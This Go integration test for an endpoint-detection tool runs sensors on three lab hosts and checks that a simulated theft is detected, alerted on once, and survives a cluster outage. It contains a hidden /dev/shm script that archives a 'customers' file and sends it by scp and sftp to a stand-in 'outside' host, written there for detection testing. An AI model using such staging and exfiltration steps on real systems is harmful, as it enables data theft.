package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"interdict/testdata/elasticsearch"
	labs "interdict/testdata/lab"
)

// fleet is hosts with a sensor each, which all ship to one node.
type fleet struct {
	t       *testing.T
	program string
	config  string
	state   string
	lab     *labs.Lab
	there   bool // sensors are in their host's network: they know its addresses, and reach only what that does
	node    *elasticsearch.Node
	sensors map[string]*exec.Cmd // by host
}

func newFleet(t *testing.T) *fleet {
	t.Helper()
	f := &fleet{t: t, program: executable(t)}
	kernelWorks(t, f.program)
	f.node, f.lab = elasticsearch.Start(t), labs.Start(t, labs.Options{Hosts: 3, Light: true})
	f.ship(f.node.URL)
	return f
}

// ship has a sensor of each host ship to an address of the node.
func (f *fleet) ship(to string) {
	f.t.Helper()
	f.config, _ = configOf(f.t, f.node, to)
	f.state = filepath.Join(filepath.Dir(f.config), "state")
	for _, h := range f.lab.Hosts() {
		f.sense(h)
	}
}

func clusterAt(url, namespace string) string {
	return fmt.Sprintf("[elasticsearch.lab]\nurls = [%q]\nnamespace = %q\nevents = \"logs-endpoint.events.*-%s\"\n", url, namespace, namespace)
}

func (f *fleet) spool(h *labs.Host) string {
	return filepath.Join(filepath.Dir(f.config), "spool-"+h.Name())
}

// sense runs a sensor for one host: with its name, its machine id and its boot
// id, and for nothing but what is in its cgroup.
func (f *fleet) sense(h *labs.Host) {
	f.t.Helper()
	etc := f.t.TempDir()
	for name, path := range map[string]string{"machine-id": "/etc/machine-id", "boot-id": "/proc/sys/kernel/random/boot_id"} {
		id, err := os.ReadFile(h.Path(path))
		if err == nil {
			err = os.WriteFile(filepath.Join(etc, name), id, 0o644)
		}
		if err != nil {
			f.t.Fatal(err)
		}
	}
	words := []string{"-t", strconv.Itoa(h.Pid()), "-u"}
	if f.there {
		words = append(words, "-n")
	}
	words = append(words, "--", "unshare", "-m", "--propagation", "private", "sh", "-ec",
		`mount --bind "$0/boot-id" /proc/sys/kernel/random/boot_id; mount -t overlay -o "lowerdir=$0:/etc" overlay /etc; exec "$@"`, etc,
		f.program, "--config", f.config, "sensor", "--to", "elasticsearch:lab", "--scope", h.Cgroup(), "--spool", f.spool(h))
	cmd := exec.Command("nsenter", words...)
	var said bytes.Buffer
	cmd.Stderr = &said
	if err := cmd.Start(); err != nil {
		f.t.Fatal(err)
	}
	if f.sensors == nil {
		f.sensors = map[string]*exec.Cmd{}
	}
	f.sensors[h.Name()] = cmd
	f.t.Cleanup(func() {
		if f.sensors[h.Name()] != cmd {
			return // it was killed
		}
		cmd.Process.Signal(syscall.SIGINT)
		if err := cmd.Wait(); err != nil || said.Len() > 0 {
			f.t.Errorf("the sensor of %s: %v\n%s", h.Name(), err, said.String())
		}
	})
}

// kill ends the sensor of a host as a crash does, once it has had a second for
// what happened before, and starts another, which is at work when kill returns.
func (f *fleet) kill(h *labs.Host) {
	f.t.Helper()
	const within = 90 * time.Second
	since := time.Now()
	soon(f.t, "another word of the sensor of "+h.Name(), within, func() bool {
		var said struct{ At time.Time }
		b, err := os.ReadFile(filepath.Join(f.spool(h), "status.json"))
		return err == nil && json.Unmarshal(b, &said) == nil && said.At.Sub(since) > time.Second
	})
	cmd := f.sensors[h.Name()]
	if err := cmd.Process.Kill(); err != nil {
		f.t.Fatal(err)
	}
	cmd.Wait()
	kept := f.spooled(h)
	f.sense(h)
	soon(f.t, "the next sensor of "+h.Name(), within, func() bool {
		h.Command("scp", "warm-up").Run()
		return f.spooled(h) > kept
	})
}

// spooled is how many bytes wait on the disk of a host's sensor.
func (f *fleet) spooled(h *labs.Host) (size int64) {
	segments, _ := filepath.Glob(filepath.Join(f.spool(h), "*.spool"))
	for _, s := range segments {
		if info, err := os.Stat(s); err == nil {
			size += info.Size()
		}
	}
	return size
}

// ask puts a question to the cluster, after it was told to let all be found.
func (f *fleet) ask(query string) [][]string {
	f.t.Helper()
	if _, err := f.node.Do("POST", "/logs-*/_refresh", ""); err != nil {
		f.t.Fatal(err)
	}
	out, err := exec.Command(f.program, "--config", f.config, "query", "--source", "elasticsearch:lab", "--format", "csv", query).Output()
	if err != nil {
		return nil // no index yet
	}
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil || len(rows) == 0 {
		f.t.Fatalf("%v: %s", err, out)
	}
	return rows[1:]
}

func (f *fleet) events() string {
	b, _ := os.ReadFile(f.config)
	_, rest, _ := strings.Cut(string(b), `events = "`)
	pattern, _, _ := strings.Cut(rest, `"`)
	return pattern
}

// printed collects what a command prints.
type printed struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *printed) Write(b []byte) (int, error) { l.mu.Lock(); defer l.mu.Unlock(); return l.b.Write(b) }
func (l *printed) String() string              { l.mu.Lock(); defer l.mu.Unlock(); return l.b.String() }

// Three hosts do their work, on one of them data is stolen, and the cluster is
// killed in the middle: the console that knows only the cluster sees the theft
// whole, and what happened is there once.
func TestATheftOnOneOfThreeHostsIsSeenAtAConsoleThatKnowsOnlyTheCluster(t *testing.T) {
	const within = 90 * time.Second
	f := newFleet(t)
	process := strings.Replace(f.events(), "events.*", "events.process", 1)
	for _, h := range f.lab.Hosts() {
		soon(t, "the sensor of "+h.Name(), within, func() bool {
			h.Command("scp", "warm-up").Run() // ends with its usage
			return len(f.ask(fmt.Sprintf(`FROM %s | WHERE host.name == %q | LIMIT 1`, process, h.Name()))) > 0
		})
	}
	console := startTerminal(t, 120, 40, f.program, "--config", f.config, "--state", f.state, "--source", "elasticsearch:lab")
	console.wait("the first screen over the cluster", `elasticsearch:lab`, `STANDING`)
	var alerts printed
	watch := exec.Command(f.program, "--config", f.config, "watch", "--source", "elasticsearch:lab")
	watch.Stdout = &alerts
	if err := watch.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { watch.Process.Kill(); watch.Wait() })

	on(t, f.lab.Host("db-3"), `cat >/dev/shm/.x.sh <<'X'
#!/bin/sh
head -c 3000000 /dev/urandom >/srv/customers.csv
tar czf /srv/customers.tar.gz -C /srv customers.csv
scp -q /srv/customers.tar.gz outside:/srv/
echo "put /srv/customers.csv /srv/" | sftp -q -b - outside
:
X
chmod +x /dev/shm/.x.sh; /dev/shm/.x.sh`)
	t.Log(console.wait("the theft", `db-3`, `scp ◂ \.x\.sh`, `203\.0\.113\.10`, `customers\.(tar\.gz|csv)`, `3\.0 M|2\.9 M`, `Tree .*\.x\.sh \d+ .*─ s(cp|ftp) \d+ ─ ssh \d+`))

	work := func(round string) {
		var all sync.WaitGroup
		for _, host := range []string{"web-1", "ci-17"} {
			all.Go(func() {
				if _, err := f.lab.Host(host).Sh(fmt.Sprintf(`echo x >/srv/x; for i in 1 2 3 4 5; do scp -q /srv/x outside:/srv/%s-%s-$i; done`, host, round)); err != nil {
					t.Error(err)
				}
			})
		}
		all.Wait()
	}
	work("before")
	if err := f.node.Kill(); err != nil {
		t.Skip(err)
	}
	work("without")
	console.wait("that it cannot look", `CANNOT LOOK`)
	const flood = 500
	storm := fmt.Sprintf(`i=0; while [ $i -lt %d ]; do scp storm 2>/dev/null || :; i=$((i+1)); done`, flood)
	on(t, f.lab.Host("ci-17"), storm)
	f.kill(f.lab.Host("ci-17"))
	on(t, f.lab.Host("ci-17"), storm)
	if err := f.node.Again(); err != nil {
		t.Fatal(err)
	}
	work("after")
	soon(t, "all that was spooled is shipped", within, func() bool {
		for _, h := range f.lab.Hosts() {
			out, _ := exec.Command(f.program, "sensor", "status", "--spool", f.spool(h), "--json").Output()
			if !strings.Contains(string(out), `"name":"cluster lab","state":"yes"`) {
				return false
			}
		}
		return len(f.ask(fmt.Sprintf(`FROM %s | WHERE process.command_line LIKE "scp -q /srv/x outside:/srv/*" AND event.action == "exec"`, process))) >= 30
	})
	stormed := fmt.Sprint(f.ask(fmt.Sprintf(`FROM %s | WHERE process.command_line == "scp storm" AND host.name == "ci-17" AND event.action == "exec" | STATS n = COUNT(*) BY process.entity_id | STATS n = SUM(n), different = COUNT(*)`, process)))
	if want := fmt.Sprintf("[[%d %d]]", 2*flood, 2*flood); stormed != want {
		t.Errorf("executions, and different ones, around a sensor that was killed while the cluster was gone: %s, want %s", stormed, want)
	}
	console.waitFor("that it can look again", func(screen string) bool { return !strings.Contains(screen, "CANNOT LOOK") })
	console.waitFor("that everything ended", func(screen string) bool {
		return !strings.Contains(screen, " running") && !strings.Contains(screen, "still runs")
	})
	console.wait("the theft still", `db-3`, `scp ◂ \.x\.sh`, `203\.0\.113\.10`)

	seen := map[string]string{}
	for _, row := range f.ask(fmt.Sprintf(`FROM %s | WHERE process.name == "scp" AND event.action == "exec" AND process.command_line LIKE "*outside:/srv/*" | STATS n = COUNT(*) BY process.command_line, host.name`, process)) {
		seen[row[1]+" on "+row[2]] = row[0]
	}
	for _, host := range []string{"web-1", "ci-17"} {
		for _, round := range []string{"before", "without", "after"} {
			for i := range 5 {
				one := fmt.Sprintf("scp -q /srv/x outside:/srv/%s-%s-%d on %s", host, round, i+1, host)
				if seen[one] != "1" {
					t.Errorf("%s: %q times", one, seen[one])
				}
			}
		}
	}
	if len(seen) != 31 || seen["scp -q /srv/customers.tar.gz outside:/srv/ on db-3"] != "1" {
		t.Errorf("%d executions: %q", len(seen), seen)
	}
	f.noAlertTwice(alerts.String())
	f.judgesAlike(process)
}

// noAlertTwice looks at alerts as watch writes them.
func (f *fleet) noAlertTwice(alerts string) {
	f.t.Helper()
	told, theft := map[string]bool{}, false
	for line := range strings.Lines(alerts) {
		var a struct {
			Kibana struct{ Alert struct{ UUID string } }
		}
		if err := json.Unmarshal([]byte(line), &a); err != nil {
			f.t.Fatalf("%v: %s", err, line)
		}
		id := a.Kibana.Alert.UUID
		if told[id] || id == "" {
			f.t.Errorf("alert %q was raised twice", id)
		}
		told[id] = true
		theft = theft || strings.Contains(line, "db-3") && strings.Contains(line, "scp")
	}
	if !theft {
		f.t.Errorf("no alert of the theft in:\n%s", alerts)
	}
}

// elasticRule is the rule of Elastic's that this program began with. Its texts are
// not ours to keep: a checkout that has them is named by INTERDICT_RULES.
const elasticRule = "8eeeda11-dca6-4c3e-910f-7089db412d1c"

// judgesAlike puts the rules to the cluster and to the embedded engine over the
// very same events.
func (f *fleet) judgesAlike(process string) {
	f.t.Helper()
	rules := []string{"rare-transfer-tool", "transfer-tool-unusual-parent"}
	if root := os.Getenv("INTERDICT_RULES"); root != "" {
		filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if b, err := os.ReadFile(path); err == nil && filepath.Ext(path) == ".toml" && bytes.Contains(b, []byte(elasticRule)) {
				rules = append(rules, path)
			}
			return nil
		})
	}
	events, err := exec.Command(f.program, "--config", f.config, "query", "--source", "elasticsearch:lab", "--format", "ndjson", "FROM logs-endpoint.events.process-* METADATA _id | LIMIT 10000").Output()
	file := filepath.Join(f.t.TempDir(), "events.ndjson")
	if err == nil {
		err = os.WriteFile(file, events, 0o600)
	}
	if err != nil {
		f.t.Fatal(err)
	}
	now := time.Now().UTC().Format(time.RFC3339)
	for _, rule := range rules {
		judge := func(over ...string) []string {
			cmd := exec.Command(f.program, append([]string{"--config", f.config, "rules", "run", rule, "--now", now}, over...)...)
			var said bytes.Buffer
			cmd.Stderr = &said
			out, err := cmd.Output()
			if err != nil || said.Len() > 0 {
				f.t.Errorf("%s over %q: %v\n%s", rule, over, err, said.String())
			}
			return slices.Sorted(strings.Lines(string(out)))
		}
		cluster, here := judge("--source", "elasticsearch:lab"), judge("--from", file)
		if !slices.Equal(cluster, here) || len(cluster) == 0 {
			f.t.Errorf("%s: %d alerts of the cluster are not the %d of the engine here:\n%.3000s\n%.3000s", rule, len(cluster), len(here), strings.Join(cluster, ""), strings.Join(here, ""))
		}
	}
}
